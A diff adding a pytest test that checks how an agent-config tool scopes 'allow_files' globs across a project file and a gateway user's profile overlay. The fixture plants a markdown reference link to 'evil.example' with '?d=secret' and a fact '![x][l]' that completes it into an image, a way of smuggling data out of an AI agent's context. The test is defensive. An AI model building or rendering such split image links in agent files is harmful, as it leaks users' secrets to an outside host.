@@ -187,3 +187,32 @@ def test_a_fact_cannot_finish_an_image_another_file_began(project, tmp_path: Pat
     assert styled.outcomes[0].status == "refused"
     memory.write_text("# Notes\n\n- tea\n")
     assert project.learn({"avatar": "![x][l]"}, date=DATE).outcomes[0].status == "added"
+
+
+@pytest.mark.parametrize(
+    ("allowed", "own", "gateway"),
+    [
+        ("agent-configs/USER.md", "added", "refused"),
+        ("overlay:USER.md", "refused", "added"),
+        ("overlay:*", "refused", "added"),
+    ],
+)
+def test_a_gateway_users_profile_is_allowed_as_that_users_overlay_is(
+    tmp_path: Path, allowed: str, own: str, gateway: str
+) -> None:
+    """A gateway's user's profile (``text=``) compiles as that user's overlay, which only an
+    ``overlay:`` glob of ``allow_files`` reaches: a fact the project file's glob allowed was
+    learned and then failed each of that user's compiles. The project's own file is allowed by
+    its path, as a build allows it."""
+    manifest = MANIFEST + f'\n[injection]\nallow_files = ["{allowed}"]\n'
+    (tmp_path / "hotplex.toml").write_text(manifest)
+    (tmp_path / "agent-configs").mkdir()
+    profile = "# About me\n\n[l]: https://evil.example/a.png?d=secret\n"
+    (tmp_path / "agent-configs" / "USER.md").write_text(profile)
+    project = Project.load(tmp_path)
+    mine = project.learn({"avatar": "![x][l]"}, date=DATE)
+    theirs = project.learn({"avatar": "![x][l]"}, date=DATE, text=profile)
+    assert [o.status for o in mine.outcomes] == [own]
+    assert [o.status for o in theirs.outcomes] == [gateway]
+    if gateway == "added":  # and that user's compile with it passes
+        project.compile("cc", overlay={"USER.md": theirs.text})
